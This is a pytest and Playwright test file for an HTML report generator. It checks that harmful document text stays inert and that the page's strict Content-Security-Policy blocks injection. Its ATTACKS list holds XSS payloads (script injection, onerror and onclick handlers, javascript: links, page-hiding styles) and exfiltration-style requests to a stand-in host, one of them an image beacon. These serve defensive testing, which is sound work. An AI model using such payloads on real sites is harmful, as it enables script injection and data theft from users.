"""What a document holds stays text: nothing of it runs, loads, leads elsewhere, or hides the rest."""

from __future__ import annotations

import re

import pytest

from summarizer.reports.comparison import render_comparison
from summarizer.reports.html import render_html
from tests.reports.compared import compared

from .conftest import PHONE, WIDE, OpenPage, OpenReport
from .documents import CONTROLS, HARM, SAMPLES, harmful, harmful_comparison, sample
from .reader import spans

_RAN = "() => [window.harmed, document.title]"
_ELEMENTS = """
() => ({
  scripts: document.querySelectorAll("script").length,
  frames: document.querySelectorAll("iframe, object, embed, img, base, link, form, video, audio, svg script, foreignObject, " +
    "meta[http-equiv=refresh]").length,
  handlers: [...document.querySelectorAll("*")].flatMap(one => one.getAttributeNames()).filter(name => name.startsWith("on")),
  links: [...document.querySelectorAll("[href], [src], [action]")].map(one =>
    one.getAttribute("href") ?? one.getAttribute("src") ?? one.getAttribute("action")).filter(one => !one.startsWith("#")),
})
"""


def test_nothing_runs(open_report: OpenReport) -> None:
    """With harm in every field and all over the text, the page has no element, handler or link more than a harmless one; nothing ran."""
    reader = open_report(harmful())
    harmless = open_report(sample(SAMPLES[0]))
    found, plain = (one.page.evaluate(_ELEMENTS) for one in (reader, harmless))
    assert found == plain | {"links": []}
    assert (plain["frames"], plain["handlers"], plain["links"]) == (0, [], [])
    assert reader.page.evaluate("window.harmed") is None


def test_the_harm_is_there_to_be_read(open_report: OpenReport) -> None:
    """Every piece of harm is shown as it is written, in the summary and in the source."""
    reader = open_report(harmful())
    source = reader.page.evaluate("document.querySelector('#text').textContent")
    assert source == reader.told.text.replace("\0", "\ufffd")
    summary = reader.page.evaluate("[...document.querySelectorAll('[data-item]')].map(one => one.textContent).join('\\n')")
    folded = re.sub(r"\s+", " ", summary)
    assert [one for one in HARM if re.sub(r"\s+", " ", one) not in folded] == []


def test_every_harmful_place_is_found(open_report: OpenReport) -> None:
    """Items lead to the right characters although the text is full of markup, control characters and line ends of every kind."""
    reader = open_report(harmful())
    keys = reader.page.eval_on_selector_all("[data-item]", "all => all.map(one => one.dataset.item)")
    # a key that is no plain word is given another
    assert all(re.fullmatch(r"[A-Za-z][\w-]*", key) for key in keys)
    assert len(keys) == len(set(keys))
    plain = {one.key: spans(one.evidence) for one in reader.items() if one.evidence and one.key in keys}
    assert {key: lit for key, (lit, _, _) in reader.item_by_item(list(plain)).items()} == plain
    renamed = [key for key in keys if key.startswith("x-")]
    lit = [lit for lit, _, _ in reader.item_by_item(renamed).values()]
    assert lit == [spans(kpi.evidence) for kpi in reader.told.summary.kpis]


def test_clicks_and_keys_do_no_harm(open_report: OpenReport) -> None:
    """Nor does anything run when items and places of harm are taken in hand, chosen, filtered and searched for."""
    reader = open_report(harmful())
    for mark in reader.page.locator("#text mark").all()[:6]:
        mark.evaluate("one => one.click()")
    reader.page.fill("#search", HARM[2])
    reader.page.wait_for_timeout(200)
    assert reader.shown()
    reader.page.click("#reset")
    for key in ("j", "Enter", "Escape", "?"):
        reader.page.keyboard.press(key)
    assert reader.page.evaluate("window.harmed") is None


ATTACKS = (
    "const one = document.createElement('script'); one.textContent = 'window.harmed = 1'; document.body.append(one)",
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.harmed = 1\">')",
    "document.body.insertAdjacentHTML('beforeend', '<p onclick=\"window.harmed = 1\">'); document.body.lastChild.click()",
    "document.body.insertAdjacentHTML('beforeend', '<div style=\"position:fixed;inset:0\">')",
    "document.body.insertAdjacentHTML('beforeend', '<style>body { display: none }</style>')",
    "const one = Object.assign(document.createElement('a'), {href: 'javascript:window.harmed=1'}); document.body.append(one); one.click()",
    "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://example.invalid/\"></iframe>')",
    "fetch('https://example.invalid/').catch(() => {})",
    "new Image().src = 'https://example.invalid/?' + document.body.textContent.length",
    "const one = document.createElement('form'); one.action = 'https://example.invalid/'; document.body.append(one); one.submit()",
    "document.head.insertAdjacentHTML('beforeend', '<base href=\"https://example.invalid/\">')",
    "setTimeout('window.harmed = 1')",
    "try { new Worker('data:,self.postMessage(1)') } catch (error) {}",
)


def test_the_policy_would_stop_it(open_report: OpenReport) -> None:
    """Were there a hole in the escaping, the page's own Content-Security-Policy refuses what comes through: it neither runs nor loads."""
    reader = open_report(sample(SAMPLES[2]), complains=True)
    for attack in ATTACKS:
        before = len(reader.watched.refused())
        reader.page.evaluate(f"() => {{ {attack} }}")
        reader.page.wait_for_function("before => window.__violations.length > before", arg=before, timeout=2_000)
    reader.page.wait_for_timeout(50)
    assert reader.page.evaluate("window.harmed") is None
    assert reader.watched.asked == []
    assert reader.page.locator("h1").is_visible()


def test_a_comparison_stays_text(open_page: OpenPage) -> None:
    """With harm in every field, the page of a comparison has no element, handler or link more than a harmless one, and shows it all."""
    harmless = open_page(render_comparison(compared(), "html")).page
    page = open_page(render_comparison(harmful_comparison(), "html")).page
    found, plain = (one.evaluate(_ELEMENTS) for one in (page, harmless))
    assert found == plain
    assert (plain["frames"], plain["handlers"], plain["links"]) == (0, [], [])
    page.eval_on_selector_all("details", "all => all.forEach(one => one.open = true)")
    assert page.evaluate("window.harmed") is None
    shown = re.sub(r"\s+", " ", page.inner_text("body"))
    assert [one for one in HARM if re.sub(r"\s+", " ", one) not in shown] == []
    for width in (WIDE[0], PHONE[0]):
        page.set_viewport_size({"width": width, "height": 900})
        assert page.evaluate("document.scrollingElement.scrollWidth") <= width


@pytest.mark.parametrize("which", ["summary", "comparison"])
def test_the_policy_is_strict(open_page: OpenPage, which: str) -> None:
    """It begins with nothing allowed, allows scripts and styles by their hash alone, and names no host and no 'unsafe-…'."""
    told = sample(SAMPLES[2])
    page = open_page(render_html(told.summary, told.text) if which == "summary" else render_comparison(compared(), "html")).page
    policy = page.get_attribute("meta[http-equiv='Content-Security-Policy']", "content") or ""
    rules = {name: rest for name, _, rest in (rule.strip().partition(" ") for rule in policy.split(";")) if name}
    assert rules["default-src"] == "'none'"
    assert rules["base-uri"] == rules["form-action"] == "'none'"
    for name in ("script-src", "style-src"):
        assert all(re.fullmatch(r"'sha(256|384|512)-[A-Za-z0-9+/=]+'", one) for one in rules[name].split()), rules[name]
    assert "unsafe" not in policy
    # a policy holds only for what stands after it
    head = page.evaluate("[...document.head.children].map(one => one.tagName + (one.httpEquiv ?? ''))")
    assert head.index("METAContent-Security-Policy") < min(at for at, one in enumerate(head) if one in ("SCRIPT", "STYLE"))


def test_the_harm_is_harm() -> None:
    """The harmful document does hold what it says it holds."""
    assert all(one in harmful().text for one in (*HARM, CONTROLS))
    assert "\r\n" in harmful().text
